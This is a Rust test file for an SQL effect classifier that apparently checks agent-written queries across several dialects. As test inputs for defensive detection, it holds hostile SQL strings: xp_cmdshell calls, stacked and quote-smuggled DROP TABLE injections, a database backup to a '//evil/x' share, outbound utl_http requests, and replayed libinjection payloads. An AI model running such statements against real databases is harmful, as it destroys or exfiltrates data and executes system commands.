//! T-SQL, Snowflake, GoogleSQL, Oracle, and what they share: what agents write is told in full, what hides is told or unknown.
#![expect(clippy::unwrap_used, clippy::print_stdout, reason = "tests")]

mod corpora;

use checkrein::classify::{Catalog, Classification, Dialect, Effect, Outputs};
use corpora::files::folder::folder;
use serde_json::{Map, Value, json};
use std::collections::HashMap;

const GUESTS: [Dialect; 5] = [Dialect::Mssql, Dialect::Snowflake, Dialect::Bigquery, Dialect::Oracle, Dialect::Generic];

fn name_of(name: &str, dialect: Dialect) -> String {
    match dialect {
        Dialect::Snowflake | Dialect::Oracle => format!("\"{}\"", name.to_ascii_uppercase()),
        _ => name.to_owned(),
    }
}

/// `users(id, name, ssn)`, `orders(id, user_id, total)`, `log(note)` in the schema `dbo`.
fn catalog(dialect: Dialect) -> Catalog {
    let fold = |name: &str| match dialect {
        Dialect::Snowflake | Dialect::Oracle => name.to_ascii_uppercase(),
        _ => name.to_owned(),
    };
    let mut relations = Map::new();
    for (relation, columns) in [("users", &["id", "name", "ssn"][..]), ("orders", &["id", "user_id", "total"]), ("log", &["note"])] {
        let columns: Map<String, Value> = columns.iter().map(|column| (fold(column), json!("text"))).collect();
        relations.insert(format!("{}.{}", name_of("dbo", dialect), name_of(relation, dialect)), json!({ "columns": columns }));
    }
    Catalog::from_json(json!({"version": 1, "relations": relations}).to_string().as_bytes()).unwrap()
}

fn read(text: &str, dialect: Dialect) -> Classification {
    corpora::read(text, dialect, Some(&catalog(dialect)), None)
}

fn has(got: &Classification, effects: &[Effect]) -> bool {
    effects.iter().all(|effect| got.effects.contains(*effect))
}

/// The sources of every output, columns by their bare names in lower case.
fn sources(got: &Classification) -> Option<Vec<Vec<String>>> {
    let Outputs::Columns(outputs) = &got.outputs else { return None };
    Some(outputs.iter().map(|output| output.sources.iter().map(|source| source.column.to_ascii_lowercase()).collect()).collect())
}

fn lines(expected: &[&[&str]]) -> Option<Vec<Vec<String>>> {
    Some(expected.iter().map(|sources| sources.iter().map(|source| (*source).to_owned()).collect()).collect())
}

#[test]
fn what_agents_write_is_told_in_full() {
    let Some(rows) = corpora::rows("sql/defog_sql_by_dialect.jsonl") else { return };
    for (word, dialect, floor) in [("tsql", Dialect::Mssql, 98), ("snowflake", Dialect::Snowflake, 98), ("bigquery", Dialect::Bigquery, 98)]
    {
        let (mut all, mut complete, mut reasons) = (0_u32, 0_u32, HashMap::<String, u32>::new());
        for row in rows.iter().filter(|row| row["dialect"] == word) {
            let got = corpora::read(row["sql"].as_str().unwrap(), dialect, None, None);
            all += 1;
            if got.complete && !got.effects.contains(Effect::FunctionUnknown) {
                complete += 1;
                continue;
            }
            let unknown = got.functions.iter().find(|call| call.effects.contains(Effect::FunctionUnknown));
            let why = got.reasons.first().map(|reason| format!("{:?} {}", reason.code, reason.detail));
            let why = why.or_else(|| unknown.map(|call| call.name.to_string())).unwrap_or_default();
            println!("  {why}: {}", row["sql"]);
            *reasons.entry(why).or_default() += 1;
        }
        println!("defog_sql_by_dialect.jsonl, {word}: {complete} of {all} complete {reasons:?}");
        assert!(complete * 100 >= all * floor, "{word}");
    }
}

/// The catalog of a corpus schema as the dialect would have it.
fn corpus_catalog(of: &str, dialect: Dialect) -> Option<Catalog> {
    let bytes = std::fs::read(folder()?.join(format!("sql/schemas/{of}.json"))).ok()?;
    let schema: Value = serde_json::from_slice(&bytes).unwrap();
    let fold = |name: &str| match dialect {
        Dialect::Snowflake => name.to_ascii_uppercase(),
        _ => name.to_owned(),
    };
    let mut relations = Map::new();
    for (name, columns) in schema.as_object()? {
        // In the corpus a database is a dataset.
        let name = match (dialect, name.strip_prefix("public.")) {
            (Dialect::Bigquery, Some(bare)) => format!("{}.{bare}", of.trim_start_matches("defog_")),
            _ => name.clone(),
        };
        let parts: Vec<String> = name.split('.').map(|part| format!("\"{}\"", fold(part))).collect();
        let columns: Map<String, Value> = columns.as_object()?.iter().map(|(name, kind)| (fold(name), kind.clone())).collect();
        relations.insert(parts.join("."), json!({ "columns": columns }));
    }
    Catalog::from_json(json!({"version": 1, "relations": relations}).to_string().as_bytes()).ok()
}

#[test]
fn with_the_schema_the_lineage_is_told_too() {
    let Some(rows) = corpora::rows("sql/defog_sql_by_dialect.jsonl") else { return };
    for (word, dialect) in [("tsql", Dialect::Mssql), ("snowflake", Dialect::Snowflake), ("bigquery", Dialect::Bigquery)] {
        let mut catalogs: HashMap<String, Option<Catalog>> = HashMap::new();
        let (mut all, mut exact) = (0_u32, 0_u32);
        for row in rows.iter().filter(|row| row["dialect"] == word) {
            let schema = row["schema"].as_str().unwrap_or_default().to_owned();
            let Some(catalog) = catalogs.entry(schema.clone()).or_insert_with(|| corpus_catalog(&schema, dialect)) else { continue };
            let got = corpora::read(row["sql"].as_str().unwrap(), dialect, Some(catalog), None);
            all += 1;
            exact += u32::from(got.complete && got.lineage_complete);
            if !got.lineage_complete && std::env::var_os("CHECKREIN_SHOW").is_some() {
                println!("  {:?} {}", got.reasons, row["sql"]);
            }
        }
        println!("defog_sql_by_dialect.jsonl with schemas, {word}: lineage of {exact} of {all}");
    }
}

#[test]
fn a_statement_of_transact_sql_needs_no_semicolon() {
    for (text, statements, effects) in [
        ("SELECT 1 DROP TABLE users", 2, &[Effect::Read, Effect::Drop][..]),
        ("SELECT 1 DELETE users", 2, &[Effect::Read, Effect::Delete]),
        ("SELECT id FROM users UPDATE users SET name = 'x' WHERE id = '1'", 2, &[Effect::Read, Effect::Update]),
        ("INSERT log (note) SELECT name FROM users TRUNCATE TABLE users", 2, &[Effect::Insert, Effect::Truncate]),
        ("SELECT id FROM users UNION ALL SELECT id FROM orders", 1, &[Effect::Read]),
        ("WITH c AS (SELECT id FROM users) DELETE o FROM orders o JOIN c ON c.id = o.user_id", 1, &[Effect::Delete]),
        ("SELECT 1\nGO\nDROP TABLE users", 2, &[Effect::Read, Effect::Drop]),
        ("SELECT id FROM users ORDER BY id OFFSET 5 ROWS FETCH NEXT 5 ROWS ONLY DROP TABLE log", 2, &[Effect::Drop]),
    ] {
        let got = read(text, Dialect::Mssql);
        assert!(got.complete, "{text}: {:?}", got.reasons);
        assert_eq!(got.statements, statements, "{text}");
        assert!(has(&got, effects), "{text}: {:?}", got.effects);
    }
}

#[test]
fn a_function_that_is_handed_a_table_by_its_name_is_not_complete() {
    for (dialect, texts) in [
        (
            Dialect::Mssql,
            &[
                "SELECT * FROM CONTAINSTABLE(users, ssn, 'x') AS k",
                "SELECT * FROM FREETEXTTABLE(dbo.users, *, 'x')",
                "SELECT * FROM SEMANTICKEYPHRASETABLE(users, ssn)",
                "SELECT * FROM CHANGETABLE(CHANGES users, 0) AS c",
            ][..],
        ),
        (Dialect::Snowflake, &["SELECT * FROM TABLE(f(TABLE(users)))", "SELECT * FROM f(TABLE(users))", "SELECT * FROM TABLE('users')"]),
        (Dialect::Bigquery, &["SELECT * FROM f(TABLE users)", "SELECT * FROM ML.PREDICT(MODEL m, TABLE users)"]),
        (Dialect::Oracle, &["SELECT * FROM CONTAINERS(users)", "SELECT * FROM f(users)"]),
        (Dialect::Generic, &["SELECT * FROM f(TABLE(users))", "SELECT * FROM CONTAINSTABLE(users, ssn, 'x')"]),
    ] {
        for text in texts {
            let got = read(text, dialect);
            let told = got.relations.iter().any(|used| used.name.name.eq_ignore_ascii_case("users"));
            assert!(!got.complete || told, "{dialect:?} {text}: {got:?}");
        }
    }
}

#[test]
fn a_clone_reads_what_it_copies() {
    for dialect in [Dialect::Snowflake, Dialect::Bigquery] {
        let got = read("CREATE TABLE dbo.copied CLONE dbo.users", dialect);
        assert!(got.complete, "{dialect:?}: {:?}", got.reasons);
        assert!(has(&got, &[Effect::Create, Effect::Insert, Effect::Read]), "{dialect:?}: {:?}", got.effects);
        let from = got.relations.iter().find(|used| used.effects.contains(Effect::Read)).unwrap();
        assert!(from.name.name.eq_ignore_ascii_case("users"), "{dialect:?}");
        let past = read("CREATE TABLE dbo.copied CLONE dbo.users AT (OFFSET => -60)", dialect);
        assert!(!past.complete || past.relations.iter().any(|used| used.name.name.eq_ignore_ascii_case("users")), "{dialect:?}");
    }
    assert!(!read("CREATE TABLE dbo.copied CLONE dbo.users", Dialect::Mssql).complete);
}

#[test]
fn a_hint_of_transact_sql_in_brackets_makes_no_call_of_a_table() {
    for text in [
        "SELECT ssn FROM users (NOLOCK)",
        "SELECT u.ssn FROM dbo.users AS u (nolock)",
        "SELECT u.ssn FROM orders o (NOLOCK) JOIN users u (NOLOCK) ON u.id = o.user_id",
        "SELECT ssn FROM users (INDEX(1), TABLOCK)",
        "SELECT ssn FROM users WITH (NOLOCK)",
    ] {
        let got = read(text, Dialect::Mssql);
        assert!(got.complete && got.functions.is_empty(), "{text}: {:?} {:?}", got.reasons, got.functions);
        assert_eq!(sources(&got), lines(&[&["ssn"]]), "{text}");
        assert!(got.relations.iter().any(|used| used.name.name == "users"), "{text}");
    }
    let ambiguous = read("SELECT x.a FROM users CROSS APPLY dbo.f(nolock) AS x", Dialect::Mssql);
    assert!(!ambiguous.complete);
    let other = read("SELECT u.ssn FROM users u (id, name, note)", Dialect::Mssql);
    assert!(!other.complete);
    for text in ["SELECT ssn FROM users (NOLOCK)", "SELECT ssn FROM identifier('users')", "SELECT identifier('ssn') FROM users"] {
        assert!(!read(text, Dialect::Generic).complete, "a relation to some, a call to others: {text}");
    }
}

#[test]
fn what_transact_sql_runs_elsewhere_or_from_text_is_told() {
    for (text, effects, complete) in [
        ("EXEC xp_cmdshell 'dir'", &[Effect::Procedure, Effect::Program][..], true),
        ("xp_cmdshell 'dir'", &[Effect::Procedure, Effect::Program], true),
        ("EXEC master.sys.xp_cmdshell 'dir'", &[Effect::Procedure, Effect::Program], true),
        ("EXEC sp_executesql N'DROP TABLE users'", &[Effect::DynamicSql, Effect::Drop], true),
        ("EXEC ('DELETE FROM users')", &[Effect::DynamicSql, Effect::Delete], true),
        ("EXEC dbo.close_year 2024", &[Effect::Procedure, Effect::FunctionUnknown], false),
        ("EXEC ('SELECT 1') AT srv", &[Effect::DynamicSql, Effect::Network], false),
        ("SELECT * FROM srv.db.dbo.users", &[Effect::Network], true),
        ("SELECT * FROM OPENROWSET('SQLNCLI', 'x', 'DROP TABLE users')", &[Effect::DynamicSql, Effect::Network], false),
        ("EXECUTE AS USER = 'dbo'", &[Effect::Role], true),
        ("BACKUP DATABASE db TO DISK = '//evil/x'", &[Effect::FileWrite, Effect::Network], true),
        ("SET QUOTED_IDENTIFIER OFF", &[Effect::LexerSetting], true),
        ("IF 1 = 1 DROP TABLE users", &[Effect::Unknown], false),
        ("CREATE PROCEDURE p AS DELETE FROM users; SELECT 1", &[Effect::Unknown, Effect::Create], false),
        ("SELECT @x = name FROM users", &[Effect::Unknown], false),
        ("WITH c AS (SELECT * FROM users) DELETE FROM c", &[Effect::Delete, Effect::Unknown], false),
    ] {
        let got = read(text, Dialect::Mssql);
        assert!(has(&got, effects), "{text}: {:?}", got.effects);
        assert_eq!(got.complete, complete, "{text}: {:?}", got.reasons);
    }
}

#[test]
fn outputs_are_made_of_what_the_dialect_says() {
    let all: &[&str] = &["id", "name", "ssn"];
    for (dialect, text, expected) in [
        (Dialect::Mssql, "SELECT ssn, x = name FROM dbo.Users u", &[&["ssn"][..], &["name"]][..]),
        (Dialect::Mssql, "SELECT [SSN] FROM [dbo].[users ]", &[&["ssn"]]),
        (Dialect::Mssql, "SELECT * FROM users FOR JSON AUTO", &[all]),
        (Dialect::Mssql, "SELECT (SELECT ssn FROM users FOR XML PATH(''))", &[&["ssn"]]),
        (
            Dialect::Mssql,
            "SELECT TOP 5 CONVERT(varchar(9), ssn, 1), DATEADD(day, 1, name) FROM users WITH (NOLOCK) OPTION (RECOMPILE)",
            &[&["ssn"], &["name"]],
        ),
        (
            Dialect::Mssql,
            "UPDATE u SET name = ssn OUTPUT inserted.name, deleted.id FROM users u JOIN orders o ON o.user_id = u.id",
            &[&["name", "ssn"], &["id"]],
        ),
        (Dialect::Mssql, "SELECT x.s FROM users u CROSS APPLY (SELECT u.ssn AS s) x", &[&["ssn"]]),
        (Dialect::Snowflake, "SELECT ssn AS x, x || 'a' AS y FROM dbo.users WHERE y = 'b'", &[&["ssn"], &["ssn"]]),
        (Dialect::Snowflake, "SELECT * EXCLUDE (name) FROM users QUALIFY row_number() OVER (ORDER BY ssn) = 1", &[&["id"], &["ssn"]]),
        (Dialect::Snowflake, "SELECT f.value, name:a.b[0]::string FROM users, LATERAL FLATTEN(input => ssn) f", &[&["ssn"], &["name"]]),
        (Dialect::Snowflake, "SELECT * FROM IDENTIFIER('dbo.users')", &[&["id"], &["name"], &["ssn"]]),
        (Dialect::Bigquery, "SELECT * EXCEPT (name) REPLACE (upper(ssn) AS id) FROM dbo.users", &[&["ssn"], &["ssn"]]),
        (Dialect::Bigquery, "SELECT AS STRUCT u.* FROM `dbo.users` u", &[all]),
        (Dialect::Bigquery, "SELECT TO_JSON_STRING(u) FROM dbo.users u", &[all]),
        (Dialect::Oracle, "SELECT q'[;DROP TABLE users;]' FROM dual", &[&[]]),
        (Dialect::Oracle, "SELECT ssn, LEVEL FROM users START WITH id = '1' CONNECT BY PRIOR id = name", &[&["ssn"], &[]]),
        (Dialect::Oracle, "SELECT u.ssn FROM users u, orders o WHERE u.id = o.user_id(+) AND ROWNUM < 5", &[&["ssn"]]),
        (Dialect::Generic, "SELECT u.ssn, count(*) FROM dbo.users u GROUP BY u.ssn", &[&["ssn"], &[]]),
    ] {
        let got = read(text, dialect);
        assert!(got.complete && got.lineage_complete, "{text}: {:?}", got.reasons);
        assert_eq!(sources(&got), lines(expected), "{text}");
    }
}

#[test]
fn what_the_other_dialects_hide_is_told_or_unknown() {
    for (dialect, text, effects, complete) in [
        (Dialect::Snowflake, "SELECT $1, $2 FROM @stage/x.csv", &[Effect::FileRead][..], true),
        (Dialect::Snowflake, "COPY INTO dbo.users FROM @stage/x.csv FILE_FORMAT = (TYPE = CSV)", &[Effect::Insert, Effect::FileRead], true),
        (Dialect::Snowflake, "COPY INTO @stage/x.csv FROM dbo.users", &[Effect::FileWrite, Effect::CopyOut], false),
        (Dialect::Snowflake, "SELECT SYSTEM$CANCEL_ALL_QUERIES(1)", &[Effect::Terminate], true),
        (Dialect::Snowflake, "SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))", &[Effect::Unknown], false),
        (Dialect::Snowflake, "EXECUTE IMMEDIATE $$DROP TABLE dbo.users$$", &[Effect::DynamicSql, Effect::Drop], true),
        (Dialect::Snowflake, "SELECT s.nextval FROM dbo.users", &[Effect::FunctionWrite], true),
        (Dialect::Bigquery, "EXECUTE IMMEDIATE 'DROP TABLE dbo.users'", &[Effect::DynamicSql, Effect::Drop], true),
        (Dialect::Bigquery, "SELECT * FROM EXTERNAL_QUERY('c', 'SELECT ssn FROM users')", &[Effect::DynamicSql, Effect::Network], false),
        (Dialect::Bigquery, "BEGIN DELETE FROM dbo.users WHERE true; END", &[Effect::Delete, Effect::Unknown], false),
        (
            Dialect::Oracle,
            "BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END;",
            &[Effect::Procedure, Effect::DynamicSql, Effect::Unknown],
            false,
        ),
        (Dialect::Oracle, "SELECT utl_http.request('http://x') FROM dual", &[Effect::Network], true),
        (Dialect::Oracle, "SELECT ssn FROM users@far.away", &[Effect::Network], false),
        (Dialect::Oracle, "SELECT destroy_everything FROM dual", &[Effect::Unknown], false),
        (Dialect::Oracle, "SELECT s.nextval FROM dual", &[Effect::FunctionWrite], true),
        (Dialect::Generic, "SELECT \"a\" FROM dbo.users", &[Effect::Unknown], false),
        (Dialect::Generic, "SELECT 'a\\' FROM dbo.users", &[Effect::Unknown], false),
    ] {
        let got = read(text, dialect);
        assert!(has(&got, effects), "{text}: {:?} {:?}", got.effects, got.reasons);
        assert_eq!(got.complete, complete, "{text}: {:?}", got.reasons);
    }
}

#[test]
fn a_reserved_word_is_no_name_and_text_is_never_more_than_text() {
    for dialect in GUESTS {
        for text in ["SELECT ssn and FROM users", "SELECT 1 FROM users select", "SELECT \u{a0}1", "SELECT 'a"] {
            assert!(!read(text, dialect).complete, "{dialect:?} {text}");
        }
    }
    for (dialect, text) in [
        (Dialect::Mssql, "SELECT ssn AS [x];DROP TABLE [users]--]"),
        (Dialect::Oracle, "SELECT q'!it's!' FROM dual; DROP TABLE users"),
        (Dialect::Snowflake, "SELECT 'it\\'s' ; DROP TABLE users // '"),
    ] {
        let got = read(text, dialect);
        assert!(!got.complete || got.effects.contains(Effect::Drop), "{dialect:?} {text}: {:?}", got.effects);
    }
}

#[test]
fn a_backslash_hides_the_quote_in_a_raw_string_of_googlesql() {
    let got = read("SELECT r'\\'; DROP TABLE dbo.users --'", Dialect::Bigquery);
    assert!(got.complete && got.statements == 1 && !got.effects.contains(Effect::Drop));
}

#[test]
fn hostile_seeds_do_no_harm() {
    let Some(rows) = corpora::rows("sql/libinjection_payloads.jsonl") else { return };
    for row in &rows {
        let text = row.as_object().unwrap().values().find_map(|value| value.as_str()).unwrap_or_default();
        for prefix in ["", "SELECT * FROM t WHERE a = '", "SELECT * FROM t WHERE a = "] {
            for dialect in GUESTS {
                let got = corpora::read(&format!("{prefix}{text}"), dialect, None, None);
                assert!(got.complete || got.effects.contains(Effect::Unknown));
            }
        }
    }
}
